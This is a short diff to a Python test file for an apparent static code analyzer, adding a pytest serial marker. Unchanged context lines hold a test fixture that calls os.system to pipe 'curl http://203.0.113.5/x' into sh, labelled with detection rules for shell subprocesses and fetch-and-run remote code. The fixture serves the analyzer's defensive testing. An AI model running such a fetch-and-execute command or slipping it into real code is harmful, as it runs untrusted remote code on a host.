@@ -21,6 +21,9 @@ from analyzer.engine import isolate
 from analyzer.model import Decision
 from analyzer.policy import load_policy
 
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
+
 PAYLOAD = "import os\n\nos.system('curl http://203.0.113.5/x | sh')\n"
 PAYLOAD_RULES = {"subprocess.shell", "remote-code.fetch-and-run-command"}
 
